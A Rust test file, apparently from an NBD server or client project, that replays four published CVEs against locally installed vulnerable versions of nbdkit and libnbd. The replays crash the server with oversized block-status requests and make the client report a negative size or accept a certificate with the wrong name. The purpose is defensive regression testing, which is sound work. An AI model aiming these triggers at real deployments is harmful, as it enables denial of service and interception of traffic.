//! The same attacks on programs of others that are known to be vulnerable: each of them works there,
//! so that a test which ours withstands proves something.

use crate::{
    bounded::bounded,
    clients::{Style, negotiate},
    drivers::{Driver, Host, LIMIT},
    extents::{LONGEST, ask_for_all, compact},
    tls::setup,
};
use interop::{Certificates, Flaw, Nbdkit, Peer, Program, Scripted, Server, require};
use nbd_proto::CommandFlags;
use std::{io::Read, os::unix::net::UnixStream, thread, time::Instant};

/// The program, if it is there in a version that is known to be vulnerable.
fn vulnerable(peer: Peer, series: &str) -> Option<Program> {
    let program = require(peer)?;
    let version = program.version_number();
    if version.starts_with(series) {
        return Some(program);
    }
    eprintln!("skipped: {} {version} is not {series}x", peer.command());
    None
}

/// The server is there no more.
fn has_crashed(server: &Server) {
    let start = Instant::now();
    while UnixStream::connect(server.socket()).is_ok() {
        assert!(start.elapsed() < LIMIT, "it is still there");
        thread::yield_now();
    }
}

#[test]
fn the_replay_of_cve_2025_47711_ends_nbdkit() {
    bounded(64, || {
        if vulnerable(Peer::Nbdkit, "1.32.").is_none() {
            return;
        }
        let server = Nbdkit::new("memory").param("size=6G").start().unwrap();
        let client = compact().connect(&server.uri("")).unwrap();
        client
            .block_status(0, LONGEST, CommandFlags::NONE)
            .unwrap_err();
        has_crashed(&server);
    });
}

#[test]
fn the_replay_of_cve_2025_47712_ends_nbdkit() {
    bounded(64, || {
        if vulnerable(Peer::Nbdkit, "1.32.").is_none() {
            return;
        }
        let server = Nbdkit::new("memory").filter("blocksize");
        let server = server.param("size=6G").param("minblock=64k");
        let server = server.start().unwrap();
        let mut stream = UnixStream::connect(server.socket()).unwrap();
        stream.set_read_timeout(Some(LIMIT)).unwrap();
        stream.read_exact(&mut [0; 18]).unwrap();
        ask_for_all(&mut stream);
        stream.read_exact(&mut [0; 20]).unwrap_err();
        has_crashed(&server);
    });
}

#[test]
fn the_replay_of_cve_2023_5215_has_libnbd_report_a_negative_size() {
    bounded(64, || {
        let Some(nbdinfo) = vulnerable(Peer::NbdInfo, "1.14.") else {
            return;
        };
        let server = Scripted::start(1, |_, peer| {
            negotiate(peer, Style::Simple, 1 << 63);
            peer.rest();
        });
        let said = nbdinfo.run(["--size", &server.uri("")]).stdout;
        assert!(said.starts_with('-'), "{said}");
        server.finish();
    });
}

#[test]
fn the_replay_of_cve_2024_7383_has_libnbd_trust_any_certificate() {
    bounded(64, || {
        let Some(nbdinfo) = vulnerable(Peer::NbdInfo, "1.14.") else {
            return;
        };
        let certificates = Certificates::with_server(Flaw::WrongName);
        let host = Host::start(Driver::Blocking, &setup(&certificates));
        // Only the authorities of the system are known, and this is none of them.
        let info = nbdinfo.run(["--size", &format!("nbds://{}/", host.address)]);
        assert!(info.status.success(), "{info:?}");
        host.stop();
    });
}
